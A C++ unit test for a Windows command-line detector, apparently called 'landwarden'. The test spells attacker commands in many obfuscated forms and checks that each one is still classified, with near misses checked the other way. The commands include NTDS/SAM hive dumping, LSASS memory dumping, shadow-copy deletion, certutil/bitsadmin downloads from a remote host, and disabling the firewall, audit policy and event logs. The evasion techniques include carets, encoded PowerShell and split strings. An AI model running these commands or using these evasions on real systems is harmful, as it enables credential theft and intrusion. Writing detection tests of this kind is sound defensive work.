// One meaning, many spellings: lines are spelt in every way that the program itself takes, by a seeded
// generator, and must all give the same action; near misses spelt in the same ways must not.
//
// LW_SEED chooses the seed; it is printed when something fails.

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <random>
#include <set>

#include "base/text.h"
#include "command/reading_testing.h"

namespace landwarden::command {
namespace {

/// A line in pieces: "w:interface/int/i" a word with its short forms, "o:/for=C:" an option, "k:port=1" a tag
/// whose place among its neighbours does not matter, "v:x" a value that stays as it is.
struct Spelt {
  std::string_view action;    ///< that must be found; with near_miss: that must not
  std::string_view original;  ///< OriginalFileName
  std::string_view program, pieces;
  bool near_miss = false;
};

constexpr Spelt kLines[] = {
    {"ntds_copy", "ntdsutil.exe", "ntdsutil",
     "w:activate/activ/ac w:instance/inst/in/i v:ntds w:ifm/if w:create/creat/cr w:full/ful/fu "
     "v:C:\\Windows\\Temp\\pro w:quit/q w:q"},
    {"shadow_copy_create", "ntdsutil.exe", "ntdsutil",
     "w:snapshot/snap/sn w:activate/ac w:instance/i v:ntds w:create/cr w:quit/q w:q"},
    {"shadow_copy_create", "VSSADMIN.EXE", "vssadmin", "w:create w:shadow o:/for=C:"},
    {"shadow_copy_delete", "VSSADMIN.EXE", "vssadmin", "w:delete w:shadows o:/all o:/quiet"},
    {"port_proxy_add", "netsh.exe", "netsh",
     "w:interface/inter/int/i w:portproxy/portp/por w:add/ad/a w:v4tov4/v4 k:listenport=9999 "
     "k:listenaddress=0.0.0.0 "
     "k:connectaddress=10.1.2.3 k:connectport=8443"},
    {"port_proxy_delete", "netsh.exe", "netsh",
     "w:interface/int w:portproxy/portp w:delete/del/d w:v4tov4/v4 k:listenport=9999 "
     "k:listenaddress=0.0.0.0"},
    {"firewall_off", "netsh.exe", "netsh", "w:advfirewall/advf w:set/s w:allprofiles/allp w:state/st w:off"},
    {"hive_save", "reg.exe", "reg", "w:save v:hklm\\sam v:C:\\x\\ss.dat o:/y"},
    {"hive_save", "reg.exe", "reg", "w:save v:HKEY_LOCAL_MACHINE\\SECURITY v:se.dat"},
    {"directory_export", "ldifde.exe", "ldifde", "o:-f v:c:\\windows\\temp\\up.txt o:-p v:subtree"},
    {"domain_trust_list", "nltestrk.exe", "nltest", "o:/domain_trusts o:/all_trusts"},
    {"group_list", "net.exe", "net", "w:group v:Domain_Admins o:/domain/dom"},
    {"account_create", "net1.exe", "net1", "w:user v:op7 v:Pa55w0rd o:/add"},
    {"eventlog_clear", "wevtutil.exe", "wevtutil", "w:clear-log/cl v:Security"},
    {"logon_events_read", "wevtutil.exe", "wevtutil",
     "w:query-events/qe v:security o:/rd:true o:/q:*[System[EventID=4624]]"},
    {"task_create", "schtasks.exe", "schtasks", "o:/create o:/tn v:upd o:/tr v:c:\\x.bat o:/sc v:onlogon"},
    {"service_create", "sc.exe", "sc", "w:create v:upd w:binpath= v:c:\\x.exe"},
    {"download", "CertUtil.exe", "certutil", "o:-urlcache o:-split o:-f v:http://203.0.113.9/a v:c:\\a"},
    {"archive_create_protected", "7z.exe", "7z", "w:a v:-pPa55 v:c:\\x.7z v:c:\\plans"},
    {"self_query", "whoami.exe", "whoami", "o:/all"},
    {"recovery_disable", "bcdedit.exe", "bcdedit", "o:/set v:{default} w:recoveryenabled w:no"},
    {"protected_file_copy", "esentutl.exe", "esentutl",
     "o:/y v:c:\\windows\\ntds\\ntds.dit o:/d v:c:\\x\\n.dit"},
    {"protected_file_copy", "esentutl.exe", "esentutl", "o:/y o:/vss v:c:\\x.dat o:/d v:c:\\y.dat"},
    {"backup_create", "WBADMIN.EXE", "wbadmin", "w:start w:systemstatebackup o:-backuptarget:e: o:-quiet"},
    {"shadow_copy_create", "diskshadow.exe", "diskshadow", "o:/s v:c:\\x\\s.txt"},
    {"shadow_copy_delete", "wmic.exe", "wmic", "w:shadowcopy w:delete"},
    {"wmi_process_create_remote", "wmic.exe", "wmic", "o:/node:FS02 w:process w:call w:create v:calc.exe"},
    {"process_list", "wmic.exe", "wmic", "w:process w:get v:name,processid"},
    {"disk_list", "wmic.exe", "wmic", "w:volume w:list w:brief"},
    {"directory_query", "dsquery.exe", "dsquery", "w:computer o:-limit v:0"},
    {"directory_export", "csvde.exe", "csvde", "o:-f v:c:\\x.csv o:-s v:DC01"},
    {"domain_controller_list", "nltestrk.exe", "nltest", "o:/dclist:corp"},
    {"dns_zone_list", "dnscmd.exe", "dnscmd", "w:DC01 o:/enumzones"},
    {"account_list", "net1.exe", "net1", "w:user o:/domain/dom"},
    {"group_member_add", "net1.exe", "net", "w:localgroup v:administrators v:op7 o:/add"},
    {"service_list", "net1.exe", "net", "w:start"},
    {"share_create", "net1.exe", "net1", "w:share v:x=c:\\plans"},
    {"session_list", "quser.exe", "quser", "o:/server:FS02"},
    {"process_list", "tasklist.exe", "tasklist", "o:/v"},
    {"process_kill", "taskkill.exe", "taskkill", "o:/f o:/im v:MsMpEng.exe"},
    {"system_info", "sysinfo.exe", "systeminfo", "o:/s v:FS02"},
    {"network_config_show", "ipconfig.exe", "ipconfig", "o:/all"},
    {"connections_list", "netstat.exe", "netstat", "o:-ano"},
    {"neighbours_list", "arp.exe", "arp", "o:-a"},
    {"host_probe", "ping.exe", "ping", "o:-n v:1 v:10.0.0.5"},
    {"download", "bitsadmin.exe", "bitsadmin", "o:/transfer v:j v:http://203.0.113.9/a v:c:\\a"},
    {"decode_file", "CertUtil.exe", "certutil", "o:-decode v:c:\\a.b64 v:c:\\a.exe"},
    {"process_memory_dump", "RUNDLL32.EXE", "rundll32",
     "v:c:\\windows\\system32\\comsvcs.dll w:MiniDump v:708 v:c:\\l.dmp w:full"},
    {"proxy_execution", "REGSVR32.EXE", "regsvr32", "o:/s o:/u o:/i:a.sct v:scrobj.dll"},
    {"installer_run_remote", "msiexec.exe", "msiexec", "o:/q o:/i v:http://203.0.113.9/a.msi"},
    {"archive_create", "makecab.exe", "makecab", "v:c:\\x\\sy.dat v:c:\\x\\a.zip"},
    {"file_copy_remote", "XCOPY.EXE", "xcopy", "v:c:\\x\\a.tmp v:\\\\FS02\\c$\\x o:/y"},
    {"credential_search", "FINDSTR.EXE", "findstr", "o:/s o:/i v:password v:*.txt"},
    {"audit_disable", "AUDITPOL.EXE", "auditpol", "o:/clear o:/y"},
    {"service_stop", "sc.exe", "sc", "w:stop v:Fax"},
    {"saved_sessions_query", "reg.exe", "reg", "w:query v:hkcu\\software\\SimonTatham\\PuTTY\\Sessions o:/s"},
    {"port_proxy_add", "reg.exe", "reg",
     "w:add v:hklm\\system\\currentcontrolset\\services\\portproxy\\v4tov4\\tcp o:/v v:0.0.0.0/9999 o:/d "
     "v:10.1.1.1/8443"},
    {"task_run", "schtasks.exe", "schtasks", "o:/run o:/s v:FS02 o:/tn v:upd"},
    {"remote_command_run", "winrs.exe", "winrs", "o:-r:FS02 v:ipconfig"},
    {"firewall_rule_add", "netsh.exe", "netsh",
     "w:advfirewall/advf w:firewall/fi w:add/a w:rule k:name=x k:dir=in k:action=allow k:localport=9999 "
     "k:protocol=tcp"},
    {"registry_export", "reg.exe", "reg", "w:export v:hklm\\software\\x v:c:\\x\\a.reg o:/y"},
    {"registry_query", "reg.exe", "reg", "w:query v:hklm\\software\\x o:/s"},
    {"registry_set", "reg.exe", "reg", "w:add v:hkcu\\software\\x o:/v v:a o:/d v:b o:/f"},
    {"shadow_copy_list", "VSSADMIN.EXE", "vssadmin", "w:list w:shadows"},
    {"port_proxy_list", "netsh.exe", "netsh", "w:interface/int w:portproxy/portp w:show/sh w:all"},
    {"wlan_key_show", "netsh.exe", "netsh", "w:wlan w:show/sh w:profile v:name=office k:key=clear"},
    {"firewall_rule_delete", "netsh.exe", "netsh",
     "w:advfirewall/advf w:firewall/fi w:delete/del w:rule k:name=x"},
    {"service_change", "sc.exe", "sc", "w:config v:upd w:binpath= v:c:\\x.exe"},
    {"service_start", "sc.exe", "sc", "w:start v:upd"},
    {"service_list", "sc.exe", "sc", "w:query"},
    {"task_delete", "schtasks.exe", "schtasks", "o:/delete o:/tn v:upd o:/f"},
    {"task_list", "schtasks.exe", "schtasks", "o:/query o:/v"},
    {"account_delete", "net1.exe", "net1", "w:user v:op7 o:/delete"},
    {"account_change", "net1.exe", "net1", "w:user v:op7 o:/active:yes"},
    {"share_list", "net1.exe", "net1", "w:share"},
    {"admin_share_use", "net1.exe", "net", "w:use v:\\\\FS02\\c$"},
    {"autostart_set", "reg.exe", "reg",
     "w:add v:hkcu\\software\\microsoft\\windows\\currentversion\\run o:/v v:upd o:/d v:c:\\x.exe o:/f"},
    {"password_cache_enable", "reg.exe", "reg",
     "w:add v:hklm\\system\\currentcontrolset\\control\\securityproviders\\wdigest o:/v "
     "w:UseLogonCredential o:/d v:1"},
    {"remote_desktop_enable", "reg.exe", "reg",
     "w:add v:hklm\\system\\currentcontrolset\\control\\lsa o:/v w:DisableRestrictedAdmin o:/d v:0"},
    {"code_load", "CertOC.exe", "certoc", "o:-LoadDLL v:c:\\x\\a.dll"},
    {"directory_replication", "repadmin.exe", "repadmin", "o:/syncall v:DC01"},
    {"network_config_change", "route.exe", "route", "w:add v:10.0.0.0 w:mask v:255.0.0.0 v:10.1.1.1"},
    {"shadow_copy_mount", "ntdsutil.exe", "ntdsutil", "w:snapshot/snap/sn w:mount/mo v:1 w:quit/q w:q"},
    {"share_use", "net1.exe", "net", "w:use v:x: v:\\\\FS02\\plans"},
    {"stored_credentials_add", "cmdkey.exe", "cmdkey", "o:/add:FS02 o:/user:op7 o:/pass:x"},
    {"eventlog_disable", "wevtutil.exe", "wevtutil",
     "w:set-log/sl v:Microsoft-Windows-Sysmon/Operational o:/e:false"},
    {"eventlog_read", "wevtutil.exe", "wevtutil", "w:query-events/qe v:system"},
    {"service_accounts_list", "setspn.exe", "setspn", "o:-q v:*/*"},
    {"firewall_show", "netsh.exe", "netsh", "w:advfirewall/advf w:show/sh w:allprofiles/allp"},
    {"wmi_query_remote", "wmic.exe", "wmic", "o:/node:FS02 w:path v:win32_share w:get v:name"},
    {"wmi_process_create", "wmic.exe", "wmic", "w:process w:call w:create v:calc.exe"},
    {"software_list", "wmic.exe", "wmic", "w:product w:get v:name"},
    {"stored_credentials_list", "cmdkey.exe", "cmdkey", "o:/list"},
    {"encode_file", "CertUtil.exe", "certutil", "o:-encode v:c:\\a.exe v:c:\\a.b64"},
    {"backup_list", "WBADMIN.EXE", "wbadmin", "w:get w:versions"},
    {"remote_desktop_start", "mstsc.exe", "mstsc", "o:/v:FS02"},
    {"file_hide", "ATTRIB.EXE", "attrib", "v:+h v:c:\\x\\a.dat"},
    {"permissions_change", "iCACLS.EXE", "icacls", "v:c:\\x o:/grant v:Everyone:F"},
    {"wmi_query", "wmic.exe", "wmic", "w:path v:win32_share w:get v:name"},
    {"account_list", "wmic.exe", "wmic", "w:useraccount w:get v:name"},
    {"installer_run", "msiexec.exe", "msiexec", "o:/i v:c:\\a.msi o:/qn"},
    {"file_copy", "XCOPY.EXE", "xcopy", "v:c:\\x\\a.tmp v:d:\\x o:/y"},
    {"time_query", "w32tm.exe", "w32tm", "o:/query o:/status"},

    {"ntds_copy", "ntdsutil.exe", "ntdsutil",
     "w:activate/ac w:instance/i v:ntds w:files/fi w:info w:quit/q w:q", true},
    {"port_proxy_add", "netsh.exe", "netsh", "w:interface/int w:portproxy/portp w:show w:all", true},
    {"shadow_copy_create", "VSSADMIN.EXE", "vssadmin", "w:list w:shadows o:/for=C:", true},
    {"hive_save", "reg.exe", "reg", "w:save v:HKLM\\SOFTWARE\\Meterwerk v:mw.hiv", true},
    {"account_create", "net1.exe", "net", "w:user v:op7 o:/domain/dom", true},
    {"eventlog_clear", "wevtutil.exe", "wevtutil", "w:get-log/gl v:Security", true},
    {"archive_create_protected", "7z.exe", "7z", "w:a v:c:\\x.7z v:c:\\plans", true},
    {"recovery_disable", "bcdedit.exe", "bcdedit", "o:/enum v:{default}", true},
    {"service_create", "sc.exe", "sc", "w:query v:upd", true},
    {"protected_file_copy", "esentutl.exe", "esentutl", "o:/y v:c:\\x\\a.edb o:/d v:c:\\x\\b.edb", true},
    {"wmi_process_create_remote", "wmic.exe", "wmic", "o:/node:FS02 w:os w:get v:caption", true},
    {"share_create", "net1.exe", "net", "w:share", true},
    {"group_member_add", "net1.exe", "net", "w:localgroup v:administrators", true},
    {"download", "CertUtil.exe", "certutil", "o:-hashfile v:c:\\a w:SHA256", true},
    {"process_memory_dump", "RUNDLL32.EXE", "rundll32",
     "v:c:\\windows\\system32\\comsvcs.dll w:DllRegisterServer", true},
    {"installer_run_remote", "msiexec.exe", "msiexec", "o:/i v:c:\\a.msi o:/qn", true},
    {"saved_sessions_query", "reg.exe", "reg", "w:query v:hkcu\\software\\Meterwerk o:/s", true},
    {"port_proxy_add", "reg.exe", "reg", "w:query v:hklm\\system\\currentcontrolset\\services\\portproxy",
     true},
    {"audit_disable", "AUDITPOL.EXE", "auditpol", "o:/get v:*", true},
    {"firewall_rule_add", "netsh.exe", "netsh", "w:advfirewall/advf w:firewall/fi w:show w:rule k:name=x",
     true},
    {"file_copy_remote", "XCOPY.EXE", "xcopy", "v:c:\\x\\a.tmp v:d:\\x o:/y", true},
};

class Speller {
 public:
  explicit Speller(std::uint64_t seed) : random_(seed) {}

  Input spell(const Spelt& line, std::string& text, std::string& image);

 private:
  bool maybe(unsigned one_in) { return random_() % one_in == 0; }
  template <class T>
  const T& one_of(const std::vector<T>& all) {
    return all[random_() % all.size()];
  }
  std::string cased(std::string_view text);
  std::string program(std::string_view name);
  std::string arguments(const Spelt& line);
  std::string piece(char kind, std::string_view text);
  std::string with_carets(std::string_view text);
  std::string wrapped(const Spelt& line, const std::string& text);

  std::mt19937_64 random_;
};

std::string Speller::cased(std::string_view text) {
  std::string out(text);
  const auto way = random_() % 4;
  for (char& c : out) {
    const bool up = way == 1 || (way == 2 && maybe(2));
    if (up && c >= 'a' && c <= 'z') c = static_cast<char>(c - 32);
    if (way == 3) c = text::ascii_lower(c);
  }
  return out;
}

std::string Speller::program(std::string_view name) {
  const std::string plain(name);
  const std::string path = "C:\\Windows\\System32\\" + plain + ".exe";
  return cased(one_of<std::string>({plain, plain + ".exe", path, "\"" + path + "\"", "\"" + plain + "\""}));
}

std::string Speller::piece(char kind, std::string_view text) {
  if (kind == 'v') return std::string(text);
  if (kind == 'k') return cased(text.substr(0, text.find('='))) + std::string(text.substr(text.find('=')));
  std::vector<std::string> forms;
  const char dash = kind == 'o' ? text.front() : '\0';
  std::string_view rest = dash == '\0' ? text : text.substr(1);
  while (true) {
    const std::size_t slash = rest.find('/');
    forms.emplace_back(rest.substr(0, slash));
    if (slash == std::string_view::npos) break;
    rest.remove_prefix(slash + 1);
  }
  std::string form = one_of(forms);
  if (dash == '\0') return cased(form);
  const std::size_t value = form.find_first_of(":=");
  const std::string name = cased(form.substr(0, value));
  return one_of<std::string>({"/", "-"}) + name + (value == std::string::npos ? "" : form.substr(value));
}

std::string Speller::arguments(const Spelt& line) {
  std::vector<std::string> out, tags;
  const auto flush = [&] {
    std::ranges::shuffle(tags, random_);
    out.insert(out.end(), tags.begin(), tags.end());
    tags.clear();
  };
  std::string_view rest = line.pieces;
  while (!rest.empty()) {
    const std::size_t end = std::min(rest.find(' '), rest.size());
    const std::string_view piece_text = rest.substr(0, end);
    rest.remove_prefix(std::min(end + 1, rest.size()));
    std::string made = piece(piece_text[0], piece_text.substr(2));
    if (maybe(5) && !made.ends_with('\\')) made = "\"" + made + "\"";
    if (piece_text[0] == 'k') {
      tags.push_back(std::move(made));
    } else {
      flush();
      out.push_back(std::move(made));
    }
  }
  flush();
  std::string text;
  for (const std::string& word : out) text += std::string(1 + (maybe(4) ? random_() % 3 : 0), ' ') + word;
  return text;
}

std::string Speller::with_carets(std::string_view text) {
  std::string out;
  bool inside = false;
  for (const char c : text) {
    if (c == '"') inside = !inside;
    if (!inside && ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) && maybe(3)) out += '^';
    out += c;
  }
  return out;
}

/// The line inside something that starts it.
std::string Speller::wrapped(const Spelt& line, const std::string& text) {
  const bool quotes = text.contains('"');
  // PowerShell knows another "sc".
  switch (line.program == "sc" ? 3 + random_() % 5 : random_() % 8) {
    case 0:
      return cased(one_of<std::string>({"cmd /c ", "cmd.exe /q /c ", "cmd /d/s/c "})) +
             (text.starts_with('"') ? "\"" + with_carets(text) + "\"" : with_carets(text));
    case 1: {
      const std::string option = std::string("encodedcommand").substr(0, 1 + random_() % 14);
      const std::string dash = one_of<std::string>({"-", "/", "\u2013", "\u2014", "\u2015"});
      if (line.pieces.contains('{')) return text;
      return cased("powershell") + " -nop " + dash + cased(option) + " " +
             encoded_command(text.starts_with('"') ? "& " + text : text);
    }
    case 2:
      if (quotes || line.pieces.contains('{') || text.contains('\'')) return text;
      return "powershell -c \"iex ('" + text.substr(0, text.size() / 2) + "'+'" +
             text.substr(text.size() / 2) + "')\"";
    case 3:
      if (quotes || text.contains("%")) return text;
      return "cmd /c \"set q=" + text.substr(0, text.size() / 2) + "&&set r=" + text.substr(text.size() / 2) +
             "&&call %q%%r%\"";
    case 4:
      if (quotes) return text;
      return "wmic process call create \"" + text + "\"";
    case 5:
      if (quotes) return text;
      return "schtasks /create /sc once /tn a /tr \"cmd /c " + text + "\"";
    default:
      return text;
  }
}

Input Speller::spell(const Spelt& line, std::string& text, std::string& image) {
  if (maybe(5)) {  // another name, the maker's in the record
    image = "C:\\ProgramData\\upd" + std::to_string(random_() % 100) + ".exe";
    text = image + arguments(line);
    return {.line = text, .image = image, .original_name = line.original, .origin = Origin::process};
  }
  text = wrapped(line, program(line.program) + arguments(line));
  return {.line = text, .origin = Origin::process};
}

TEST(Spellings, AllMeanTheSame) {
  constexpr int kEach = 400;
  const char* chosen = std::getenv("LW_SEED");
  const std::uint64_t seed = chosen != nullptr ? std::strtoull(chosen, nullptr, 10) : 20260302;
  SCOPED_TRACE("LW_SEED=" + std::to_string(seed));
  std::uint64_t number = 0;
  for (const Spelt& line : kLines) {
    std::set<std::string> distinct;
    bool right = true;
    for (int i = 0; i < kEach && right; ++i) {
      Speller speller(seed * 1'000'003 + number++);
      std::string text, image;
      const Input input = speller.spell(line, text, image);
      distinct.insert(text);
      const Reading reading = read(input);
      right = reading.has(line.action) != line.near_miss;
      EXPECT_TRUE(right) << line.action << (line.near_miss ? " (near miss)" : "") << "\n  " << text;
    }
    EXPECT_TRUE(!right || distinct.size() > 50) << distinct.size() << " spellings of " << line.pieces;
  }
}

}  // namespace
}  // namespace landwarden::command
